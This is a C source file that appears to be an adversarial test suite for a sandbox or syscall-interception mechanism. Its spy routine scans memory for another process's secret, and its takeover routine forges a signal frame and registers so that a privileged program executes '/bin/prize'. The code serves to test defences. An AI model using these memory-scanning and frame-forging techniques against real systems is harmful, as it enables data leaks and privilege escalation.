// What others have left behind, and what others will be.
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "hostile.h"

// A secret is a word that stands nowhere but in memory and registers of who keeps it.
static volatile uint64_t half = 0x9b1d3c5e7f204a68, other_half = 0x5ec2e7a1b0d84f93;

static void *keep(void *unused)
{
	uint64_t secret = half ^ other_half, many[512];
	for (int i = 0; i < 512; i++)
		many[i] = secret;
	for (int i = 0; i < 50; i++) {
		asm volatile("mov %0, %%rbx; mov %0, %%r12; mov %0, %%r13; mov %0, %%r14; mov %0, %%r15\n"
			     "movq %0, %%xmm0; pshufd $0x44, %%xmm0, %%xmm0; movaps %%xmm0, %%xmm5; movaps %%xmm0, %%xmm11\n"
			     "mov $110, %%eax; syscall; mov $39, %%eax; mov %0, %%rdi; mov %0, %%rsi; mov %0, %%rdx; syscall"
			     : : "r"(secret)
			     : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r11", "r12", "r13", "r14", "r15", "xmm0", "xmm5", "xmm11");
		int ends[2];
		if (pipe(ends) == 0) {
			write(ends[1], many, sizeof many);
			read(ends[0], many, sizeof many);
			close(ends[0]);
			close(ends[1]);
		}
	}
	return NULL;
}

void keep_secret(void)
{
	pthread_t threads[12];
	for (int i = 0; i < 12; i++)
		pthread_create(&threads[i], NULL, keep, NULL);
	keep(NULL);
	for (int i = 0; i < 12; i++)
		pthread_join(threads[i], NULL);
}

static sigjmp_buf out;

static void on_fault(int signal)
{
	siglongjmp(out, 1);
}

static void scan(uint64_t from, uint64_t end, uint64_t step)
{
	for (uint64_t at = from; at < end; at += step) {
		if (sigsetjmp(out, 1)) {
			// A hole. There is nothing behind the last slot.
			if (from == SLOTS)
				return;
			continue;
		}
		for (uint64_t *word = (uint64_t *)at; (uint64_t)word < at + step; word++)
			if ((*word ^ half) == other_half)
				broken("another process's secret", (uint64_t)word);
	}
}

static void *nothing(void *unused)
{
	return NULL;
}

static void *make_threads(void *unused)
{
	pthread_t threads[14];
	for (int round = 0; round < 4; round++) {
		for (int i = 0; i < 14; i++)
			pthread_create(&threads[i], NULL, nothing, NULL);
		for (int i = 0; i < 14; i++)
			pthread_join(threads[i], NULL);
	}
	return NULL;
}

// Reads slots before their threads have written anything there, and all else of the stub.
void spy(void)
{
	pthread_t maker;
	signal(SIGSEGV, on_fault);
	signal(SIGBUS, on_fault);
	pthread_create(&maker, NULL, make_threads, NULL);
	for (int i = 0; i < 40; i++)
		scan(SLOTS, SLOTS + SLOT * 64, 4096);
	pthread_join(maker, NULL);
	scan(SLOTS, SLOTS + SLOT * 64, 4096);
	scan(CODE, CODE + 0x20000, 4096);
	scan(VDSO, VDSO + 0x10000, 4096);
}

static void run_as(void *role)
{
	execl("/proc/self/exe", "attack", role, NULL);
	broken("cannot run itself", errno);
}

void attack_leak(void)
{
	while (time_left()) {
		attempt(run_as, "secret", 20000);
		int status = outcome(run_as, "spy", 20000);
		if (status)
			broken("the spy", status);
	}
}

// A program of another user's, that has rights: its first instruction is its own, whatever the slot says.
static void take_over(void *hand_off)
{
	static const char *arguments[] = { "prize", NULL };
	uint64_t registers[REGISTERS] = { 0 }, slot = SLOTS;
	bool by_frame = rnd() % 2;
	// At its other end there is room for frames of signals.
	volatile uint64_t *frame = forged_frame((uint64_t *)(slot + STACK + 256), 0x20000000, slot + SLOT - 256);
	frame[5 + 13] = SYS_execve;
	frame[5 + 8] = (uint64_t)"/bin/prize";
	frame[5 + 9] = (uint64_t)arguments;
	// siginfo: si_code, si_arch
	*(volatile uint32_t *)((uint64_t)frame + 304 + 8) = 1;
	*(volatile uint32_t *)((uint64_t)frame + 304 + 28) = 0xc000003e;
	*(volatile uint64_t *)(slot + OFFSET_CONTEXT) = (uint64_t)frame;
	*(volatile uint32_t *)(slot + OFFSET_STOP) = by_frame ? SIGSYS : 0;
	if (!by_frame) {
		*(volatile uint32_t *)(slot + OFFSET_NUMBER) = SYS_execve;
		*(volatile uint64_t *)(slot + OFFSET_ARGUMENTS) = (uint64_t)"/bin/prize";
		*(volatile uint64_t *)(slot + OFFSET_ARGUMENTS + 8) = (uint64_t)arguments;
		*(volatile uint64_t *)(slot + OFFSET_ARGUMENTS + 16) = 0;
	}
	registers[RBX] = slot;
	registers[R13] = *(volatile uint32_t *)(slot + OFFSET_ANSWERED);
	registers[R15] = 0x20000000;
	registers[RSP] = slot + SLOT - 256;
	jump_with(registers, (uint64_t)hand_off);
}

void attack_prize(void)
{
	uint64_t hand_off = find("\xf0\xff\x03", 3);
	if (!hand_off)
		broken("the hand-off is not found", 0);
	int honest = 0, all = 0;
	while (time_left()) {
		int status = outcome(take_over, (void *)hand_off, 5000);
		if (status == 77)
			broken("a program with rights was taken over", status);
		honest += status == 55;
		all++;
	}
	if (!honest)
		broken("the program with rights never ran, of", all);
}
